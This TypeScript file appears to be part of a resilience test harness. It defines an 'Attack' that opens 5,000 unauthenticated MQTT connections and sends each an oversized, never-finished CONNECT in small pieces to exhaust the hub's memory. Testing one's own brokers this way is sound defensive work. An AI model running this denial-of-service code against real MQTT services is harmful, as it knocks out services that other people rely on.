import { headerBytes } from './mqtt-bytes.ts';
import { type Attack, forSeconds } from './target.ts';
import { finish, openAll } from './wire.ts';

const STRANGERS = 5_000;
/** The claimed length of the CONNECT, bytes. The CONNECT is never complete. */
const CLAIM = headerBytes(0x10, 120_000);
/** The first piece of each connection. Together these are more than the hub keeps for unauthenticated connections. */
const FIRST = Buffer.concat([CLAIM, Buffer.alloc(7_000, 'x')]);
const CHUNK = Buffer.alloc(16, 'x');
const CHUNKS_AT_A_TIME = 50;

/** Five thousand unauthenticated connections that keep sending small pieces of a CONNECT. */
export const strangersChunks: Attack = {
  title: 'pieces of 5,000 CONNECTs',
  async run({ mqtt }, signal) {
    const end = forSeconds(5, signal);
    const wires = await openAll(mqtt, STRANGERS);
    for (const wire of wires) {
      wire.ignore();
      void wire.send(FIRST);
    }
    for (let next = 0; !end.aborted; next += CHUNKS_AT_A_TIME) {
      for (let index = next; index < next + CHUNKS_AT_A_TIME; index++) {
        void wires[index % wires.length]?.send(CHUNK);
      }
      await new Promise((resolve) => setTimeout(resolve, 1)); // Each piece is sent separately.
    }
    return finish(wires);
  },
};
